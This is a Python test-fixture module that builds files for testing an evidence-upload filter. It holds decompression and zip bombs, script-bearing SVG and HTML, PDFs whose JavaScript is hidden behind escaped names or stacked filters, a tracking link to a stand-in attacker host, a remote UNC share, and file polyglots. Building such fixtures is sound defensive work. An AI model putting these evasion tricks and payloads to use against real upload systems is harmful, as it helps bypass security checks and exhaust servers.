"""Files for the evidence tests (issue 14), made here: real images with location data, and the malicious cases
the intake must refuse (channels/evidence.py)."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

from PIL import Image

# Somewhere in Leiden, as a phone writes it into a photo.
LATITUDE, LONGITUDE = ((52.0, 9.0, 36.0), (4.0, 29.0, 24.0))
GPS_IFD = 0x8825
ORIENTATION = 0x0112


def _exif() -> bytes:
    exif = Image.Exif()
    exif[0x010F] = "Telefoonmerk"  # Make
    exif[0x0110] = "Model X"  # Model
    exif[0x0132] = "2026:11:30 21:14:00"  # DateTime
    exif[GPS_IFD] = {1: "N", 2: LATITUDE, 3: "E", 4: LONGITUDE}
    return exif.tobytes()


def _picture(size: tuple[int, int] = (64, 48)) -> Image.Image:
    image = Image.new("RGB", size, (200, 30, 30))
    for x in range(size[0] // 2):
        image.putpixel((x, 5), (0, 0, 255))
    return image


def jpeg_with_gps(size: tuple[int, int] = (64, 48)) -> bytes:
    out = io.BytesIO()
    _picture(size).save(out, "JPEG", exif=_exif(), comment=b"Gemaakt bij Jan Jansen thuis")
    return out.getvalue()


def png_with_gps() -> bytes:
    from PIL import PngImagePlugin

    info = PngImagePlugin.PngInfo()
    info.add_text("Location", "Breestraat 1, Leiden")
    out = io.BytesIO()
    _picture().save(out, "PNG", exif=_exif(), pnginfo=info)
    return out.getvalue()


def webp_with_gps() -> bytes:
    out = io.BytesIO()
    _picture().save(out, "WEBP", exif=_exif())
    return out.getvalue()


def has_location(data: bytes) -> bool:
    """Whether an image still carries GPS data, or the EXIF block at all, or the text we put in it."""
    with Image.open(io.BytesIO(data)) as image:
        exif = image.getexif()
        info = image.info
    return (GPS_IFD in exif or bool(exif) or "exif" in info or "Location" in info or b"GPS" in data
            or b"Jansen" in data or b"Breestraat" in data or b"Telefoonmerk" in data)


def _chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body) & 0xFFFFFFFF)


def png_bomb(width: int = 60_000, height: int = 60_000) -> bytes:
    """A small PNG that says it is 60000 x 60000 pixels (3.6 billion): decoding it would take gigabytes."""
    rows = zlib.compress(b"\x00" * (1 + width // 8) * 16)  # a few rows of a 1-bit image; the rest is implied
    return (b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0))
            + _chunk(b"IDAT", rows) + _chunk(b"IEND", b""))


def zip_file() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("foto.jpg", b"\x00" * 1_000_000)  # a million zeros pack into a kilobyte: a small zip bomb
    return out.getvalue()


SVG_WITH_SCRIPT = (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
                   b'<script>fetch("/griffie/export?van=2000-01-01&tot=2100-01-01")</script><rect width="10" height="10"/></svg>')
HTML_PAGE = b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"


def pdf(body: bytes = b"", *, flate: bytes | None = None, stream: bytes | None = None,
        filters: bytes = b"/FlateDecode", eol: bytes = b"\n", trailer: bytes = b"") -> bytes:
    """A small valid PDF with one page; `body` goes into the catalog, `flate` into a compressed stream (or `stream`
    as its bytes, with `filters` as its /Filter and `eol` after the keyword), `trailer` into the trailer."""
    objects = [b"<< /Type /Catalog /Pages 2 0 R " + body + b">>",
               b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>"]
    content = flate if flate is not None else b"BT /F1 12 Tf 20 100 Td (Bedreiging) Tj ET"
    data = stream if stream is not None else zlib.compress(content)
    objects.append(b"<< /Length " + str(len(data)).encode() + b" /Filter " + filters + b" >>\nstream" + eol + data
                   + b"\nendstream")
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, obj in enumerate(objects, start=1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n".encode() + obj + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{o:010d} 00000 n \n".encode() for o in offsets)
    out += f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R ".encode() + trailer
    out += f">>\nstartxref\n{xref}\n%%EOF\n".encode()
    return bytes(out)


PDF_WITH_JAVASCRIPT = pdf(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >> ")
PDF_WITH_ESCAPED_JAVASCRIPT = pdf(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >> ")
PDF_WITH_HIDDEN_JAVASCRIPT = pdf(flate=b"<< /S /JavaScript /JS (app.alert(1)) >>")
PDF_WITH_EMBEDDED_FILE = pdf(b"/Names << /EmbeddedFiles << /Names [(x.exe) 5 0 R] >> >> ")

# The reviewer's cases (issue 14): script hidden behind another filter, or actions without JavaScript.
_SCRIPT = b"<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>"


def _raw_deflate(data: bytes) -> bytes:
    packer = zlib.compressobj(wbits=-15)  # deflate without the zlib header: many readers take it
    return packer.compress(data) + packer.flush()


PDF_HEX_THEN_FLATE = pdf(stream=zlib.compress(_SCRIPT).hex().encode() + b">", filters=b"[/ASCIIHexDecode /FlateDecode]")
PDF_HEX_ONLY = pdf(stream=_SCRIPT.hex().encode() + b">", filters=b"/ASCIIHexDecode")
PDF_RAW_DEFLATE = pdf(stream=_raw_deflate(_SCRIPT))
PDF_STREAM_CR = pdf(flate=_SCRIPT, eol=b"\r")
PDF_GOTOR_UNC = pdf(b"/OpenAction << /S /GoToR /F (\\\\\\\\aanvaller\\\\share\\\\x.pdf) /D [0 /Fit] >> ")
PDF_OPEN_URI = pdf(b"/OpenAction << /S /URI /URI (https://aanvaller.example/track) >> ")
PDF_RENDITION = pdf(b"/AA << /O << /S /Rendition /R 6 0 R >> >> ")
PDF_ENCRYPTED = pdf(trailer=b"/Encrypt << /Filter /Standard /V 2 /R 3 /O (x) /U (y) /P -4 >> ")
PDF_ESCAPED_FILTER = pdf(stream=_SCRIPT.hex().encode() + b">", filters=b"/ASCIIHex#44ecode")
PDF_ESCAPED_OPENACTION = pdf(b"/Op#65nAction << /S /GoToR /F (x.pdf) >> ")


def pdf_with_photo() -> bytes:
    """A PDF with a JPEG picture (/DCTDecode) and a compressed page: what a scanner or a phone writes."""
    out = io.BytesIO()
    _picture().save(out, "JPEG")
    return pdf(stream=out.getvalue(), filters=b"/DCTDecode")


def pdf_zip_polyglot() -> bytes:
    """A PDF with a ZIP after it: a PDF reader and an unzip tool both open it."""
    return pdf() + zip_file()


def png_html_polyglot() -> bytes:
    """A real PNG with an HTML page after its end: a browser that sniffs could run it."""
    out = io.BytesIO()
    _picture().save(out, "PNG")
    return out.getvalue() + HTML_PAGE


def fake_jpeg() -> bytes:
    """JPEG's first bytes, then HTML: passes a check of the first bytes only."""
    return b"\xff\xd8\xff\xe0" + HTML_PAGE
